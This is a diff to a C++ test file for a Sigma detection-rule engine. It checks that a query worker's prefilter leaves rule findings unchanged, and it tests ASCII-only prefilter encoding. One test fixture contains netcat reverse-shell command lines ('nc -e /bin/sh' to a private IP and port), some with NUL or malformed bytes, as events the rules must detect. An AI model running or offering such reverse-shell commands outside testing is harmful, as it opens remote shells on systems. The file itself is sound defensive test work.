@@ -4,7 +4,9 @@
 // every refusal is on the expected list below with its construct and reason,
 // every translated query passes the sandbox (SQLite's compiler against the
 // real schema), and over the events of cases.yaml each rule's SQL and the C++
-// evaluator find the same processes, which are the ones cases.yaml says.
+// evaluator find the same processes, which are the ones cases.yaml says; and
+// through a real query worker, every rule gives the same rows with the
+// Sigma prefilter as without it (decisions.md #70).
 #include <yaml-cpp/yaml.h>
 
 #include <gtest/gtest.h>
@@ -15,9 +17,14 @@
 #include <map>
 #include <sstream>
 
+#include "sentinel/base/strings.h"
+#include "sentinel/detection/query_worker.h"
 #include "sentinel/detection/rule_runner.h"
 #include "sentinel/detection/sigma.h"
+#include "sentinel/detection/sigma_prefilter.h"
 #include "sentinel/detection/sigma_test_util.h"
+#include "sentinel/storage/store.h"
+#include "sentinel/testing/temp_dir.h"
 
 namespace sentinel::detection {
 namespace {
@@ -225,5 +232,145 @@ TEST(SigmaCorpusTest, SqlAndEvaluatorAgreeAndCasesBehaveAsWritten) {
   EXPECT_GE(firing, 20u);
 }
 
+// ------------------------------------------------- the worker's prefilter
+
+std::optional<std::vector<std::string>> Argv(const std::optional<std::string>& text) {
+  if (!text) return std::nullopt;
+  return Split(*text, ' ');
+}
+
+models::ProcessEvent ToProcessEvent(const Exec& e) {
+  models::ProcessEvent p;
+  p.event_time_ms = 1'700'000'000'000 + e.pid;
+  p.event_type = "exec";
+  p.pid = e.pid;
+  p.ppid = e.ppid;
+  p.name = e.image ? e.image->substr(e.image->rfind('/') + 1) : "x";
+  p.exe_path = e.image;
+  p.command_line = Argv(e.command_line);
+  p.parent_exe_path = e.parent_image;
+  p.parent_command_line = Argv(e.parent_command_line);
+  p.user_name = e.user;
+  p.user_id = 1000;
+  p.cwd = e.cwd;
+  p.login_uid = e.login_uid;
+  p.start_time_ms = p.event_time_ms;
+  return p;
+}
+
+// Every corpus rule run by a real query worker over batches of real
+// process_events rows, once with its Sigma detection (the prefilter) and
+// once without: the same columns and rows, batch after batch, also for a
+// batch with no match, one whose values the prefilter cannot read (a NUL),
+// and values SQLite decodes as characters the bytes do not show.
+TEST(SigmaCorpusTest, WorkerPrefilterLeavesFindingsUnchanged) {
+  const Corpus c = ConvertAll();
+  std::size_t prefiltered = 0;
+  for (const auto& r : c.rules) prefiltered += r.rule.sigma_detection ? 1 : 0;
+  EXPECT_EQ(prefiltered, c.rules.size()) << "every corpus pattern is ASCII";
+
+  testing::TempDir dir;
+  const std::string path = dir.File("events.db");
+  auto store = storage::EventStore::Open({path, storage::OpenMode::kReadWrite, 5000});
+  ASSERT_TRUE(store.ok()) << store.status().ToString();
+  int64_t next_pid = 100;
+  std::vector<Exec> execs = ExtraEvents(&next_pid);
+  for (const auto& k : LoadCases(&next_pid)) {
+    for (const auto& [e, must] : k.execs) execs.push_back(e);
+  }
+  std::vector<models::ProcessEvent> batch1;
+  for (const auto& e : execs) batch1.push_back(ToProcessEvent(e));
+  ASSERT_TRUE((*store)->WriteEvents(batch1).ok());
+  const int64_t end1 = (*store)->db().QueryInt("SELECT max(id) FROM process_events")->value_or(0);
+  // Batch 2: benign only.
+  std::vector<models::ProcessEvent> batch2;
+  for (const char* args : {"ls -la /home/alice", "cat notes.txt", "git status"}) {
+    Exec e;
+    e.pid = next_pid++;
+    e.command_line = args;
+    e.image = "/usr/bin/" + std::string(args).substr(0, std::string(args).find(' '));
+    batch2.push_back(ToProcessEvent(e));
+  }
+  ASSERT_TRUE((*store)->WriteEvents(batch2).ok());
+  const int64_t end2 = (*store)->db().QueryInt("SELECT max(id) FROM process_events")->value_or(0);
+  // Batch 3: a matching command line with a NUL after the match, and
+  // stray continuation bytes where a pattern has `?`.
+  std::vector<models::ProcessEvent> batch3;
+  {
+    Exec e;
+    e.pid = next_pid++;
+    e.image = "/usr/bin/nc";
+    e.command_line = std::string("nc -e /bin/sh 10.0.0.1 4444 \0x", 30);
+    batch3.push_back(ToProcessEvent(e));
+    e.pid = next_pid++;
+    e.command_line = "nc -e /bin/\x80\x80sh 10.0.0.1 \xE0\x83\xA9 4444";
+    batch3.push_back(ToProcessEvent(e));
+  }
+  ASSERT_TRUE((*store)->WriteEvents(batch3).ok());
+  const int64_t end3 = (*store)->db().QueryInt("SELECT max(id) FROM process_events")->value_or(0);
+
+  WorkerSetup setup;
+  setup.database_path = path;
+  setup.rule_snapshot = true;
+  auto worker = QueryWorker::Start(setup);
+  ASSERT_TRUE(worker.ok()) << worker.status().ToString();
+  std::vector<std::size_t> firing;
+  for (const auto& [from, to] :
+       std::vector<std::pair<int64_t, int64_t>>{{0, end1}, {end1, end2}, {end2, end3}}) {
+    auto loaded = (*worker)->LoadExecBatch(from, to, std::nullopt, 10'000);
+    ASSERT_TRUE(loaded.ok()) << loaded.status().ToString();
+    std::size_t fired = 0;
+    for (const auto& r : c.rules) {
+      auto with = (*worker)->RunRule(r.rule, RunParams{}, RunLimits{});
+      Rule plain = r.rule;
+      plain.sigma_detection.reset();
+      auto without = (*worker)->RunRule(plain, RunParams{}, RunLimits{});
+      ASSERT_TRUE(with.ok()) << r.relative << ": " << with.status().ToString();
+      ASSERT_TRUE(without.ok()) << r.relative << ": " << without.status().ToString();
+      EXPECT_EQ(with->columns, without->columns) << r.relative;
+      EXPECT_EQ(with->rows, without->rows) << r.relative << " over ids (" << from << ", " << to << "]";
+      fired += without->rows.empty() ? 0 : 1;
+    }
+    firing.push_back(fired);
+  }
+  EXPECT_GE(firing[0], 20u);
+  EXPECT_EQ(firing[1], 0u);
+  EXPECT_GE(firing[2], 1u);
+}
+
+TEST(SigmaPrefilterTest, NonAsciiPatternsRunTheirSqlAlways) {
+  auto ascii = ParseSigmaRule(
+      "title: t\nid: 6c3f1a52-0000-4000-8000-000000000001\nlogsource: {product: linux, category: "
+      "process_creation}\n"
+      "detection:\n  sel:\n    CommandLine|contains: 'abc'\n  condition: sel\n",
+      "t.yml");
+  ASSERT_TRUE(ascii.ok()) << ascii.status().message();
+  EXPECT_TRUE(SigmaToRule(*ascii, "t.yml").sigma_detection);
+  auto wide = ParseSigmaRule(
+      "title: t\nid: 6c3f1a52-0000-4000-8000-000000000002\nlogsource: {product: linux, category: "
+      "process_creation}\n"
+      "detection:\n  sel:\n    CommandLine|contains: 'caf\xC3\xA9'\n  condition: sel\n",
+      "t.yml");
+  ASSERT_TRUE(wide.ok()) << wide.status().message();
+  EXPECT_FALSE(SigmaToRule(*wide, "t.yml").sigma_detection);
+  // The encoded tree reads back as the same detection.
+  std::string bytes;
+  EncodeSigmaExpr(ascii->detection, &bytes);
+  auto back = DecodeSigmaExpr(bytes);
+  ASSERT_TRUE(back.ok()) << back.status().message();
+  std::string again;
+  EncodeSigmaExpr(*back, &again);
+  EXPECT_EQ(again, bytes);
+  EXPECT_FALSE(DecodeSigmaExpr(bytes.substr(0, bytes.size() - 1)).ok());
+  EXPECT_FALSE(DecodeSigmaExpr(bytes + "x").ok());
+}
+
 }  // namespace
 }  // namespace sentinel::detection
+
+// The query worker re-executes this binary (query_worker.h).
+int main(int argc, char** argv) {
+  if (auto worker = sentinel::detection::RunQueryWorkerIfRequested(argc, argv)) return *worker;
+  ::testing::InitGoogleTest(&argc, argv);
+  return RUN_ALL_TESTS();
+}
